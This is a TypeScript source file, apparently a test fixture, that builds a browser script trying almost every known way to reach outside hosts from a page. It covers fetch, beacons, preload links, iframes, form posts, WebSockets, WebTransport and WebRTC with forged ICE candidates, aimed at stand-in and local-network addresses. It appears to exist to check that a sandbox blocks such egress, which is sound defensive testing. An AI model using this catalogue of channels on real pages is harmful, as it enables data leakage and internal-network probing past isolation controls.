/**
 * A script that tries every way out of a page that is known: to names, to addresses, to the local network and to
 * groups of computers at once. `host` and `address` are where it wants to go; nothing answers there.
 */
export function hostileScript(host: string, address: string): string {
	return `(async () => {
	const host = ${JSON.stringify(host)}, address = ${JSON.stringify(address)}
	const tried = []
	const attempt = async (name, work) => { try { await Promise.race([work(), new Promise((done) => setTimeout(done, 1500))]) ; tried.push(name) } catch (error) { tried.push(name + ': ' + error.name) } }
	const targets = ['https://' + host + '/', 'http://' + host + ':8080/', 'https://' + address + '/', 'http://' + address + '/', 'http://[2001:db8::7]/', 'http://224.0.0.251:5353/', 'http://10.66.0.1/', 'http://localhost:9/', 'http://printer.local/']
	const add = (tag, attributes, place = document.head) => { const made = document.createElement(tag); for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value); place.append(made); return made }
	for (const target of targets) {
		await attempt('fetch', () => fetch(target, { mode: 'no-cors', keepalive: true, cache: 'no-store' }))
		await attempt('xhr', () => { const request = new XMLHttpRequest(); request.open('POST', target); request.send('x') })
		await attempt('beacon', () => navigator.sendBeacon(target, 'x'))
		await attempt('image', () => { new Image().src = target + 'i.png' })
		await attempt('audio', () => { new Audio(target + 'a.mp3').load() })
		await attempt('events', () => new EventSource(target))
		await attempt('worker', () => new Worker(target + 'w.js'))
		await attempt('import', () => import(target + 'm.js'))
		for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'icon', 'manifest']) {
			await attempt(rel, () => add('link', { rel, href: target, as: 'script', crossorigin: 'anonymous' }))
		}
		await attempt('script', () => add('script', { src: target + 's.js' }))
		await attempt('style', () => add('style', {}).append('@import url("' + target + 'c.css"); body { background: url("' + target + 'b.png") } @font-face { font-family: x; src: url("' + target + 'f.woff2") }'))
		await attempt('frame', () => add('iframe', { src: target }, document.body))
		await attempt('object', () => add('object', { data: target }, document.body))
		await attempt('embed', () => add('embed', { src: target }, document.body))
		await attempt('video', () => add('video', { src: target, poster: target + 'p.png', preload: 'auto' }, document.body))
		await attempt('form', () => { const frame = add('iframe', { name: 'sink' }, document.body); const form = add('form', { action: target, method: 'post', target: 'sink' }, document.body); form.submit() })
		await attempt('ping', () => { const link = add('a', { href: '#', ping: target }, document.body); link.click() })
		await attempt('open', () => { window.open(target) })
		await attempt('speculation', () => { const rules = add('script', { type: 'speculationrules' }); rules.append(JSON.stringify({ prefetch: [{ urls: [target] }], prerender: [{ urls: [target] }] })) })
		await attempt('refresh', () => add('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }))
	}
	// An empty frame has back what was taken from the page.
	const frame = add('iframe', {}, document.body)
	const inner = frame.contentWindow
	for (const world of [window, inner]) {
		for (const target of ['wss://' + host + '/', 'ws://' + address + '/', 'ws://10.66.0.1/']) await attempt('socket', () => new world.WebSocket(target))
		await attempt('transport', () => new world.WebTransport('https://' + address + ':4433/').ready)
		await attempt('rtc', async () => {
			const servers = [{ urls: ['stun:' + host + ':3478', 'stun:' + address + ':3478', 'stun:224.0.0.251:5353'] }, { urls: ['turn:' + address + ':3478', 'turn:' + address + ':3478?transport=tcp'], username: 'x', credential: 'x' }]
			const one = new world.RTCPeerConnection({ iceServers: servers })
			const channel = one.createDataChannel('x')
			await one.setLocalDescription(await one.createOffer())
			const other = new world.RTCPeerConnection({ iceServers: servers })
			await other.setRemoteDescription(one.localDescription)
			await other.setLocalDescription(await other.createAnswer())
			await one.setRemoteDescription(other.localDescription)
			for (const place of [address, '224.0.0.251', '10.66.0.1', 'somebody.local', '2001:db8::7']) {
				for (const end of [one, other]) await end.addIceCandidate({ candidate: 'candidate:1 1 udp 2130706431 ' + place + ' 40000 typ host', sdpMid: '0', sdpMLineIndex: 0 }).catch(() => {})
			}
			await new Promise((done) => setTimeout(done, 1200))
			return channel
		})
	}
	await attempt('navigate', () => { location.href = 'https://' + host + '/away' })
	return tried.length
})()`
}
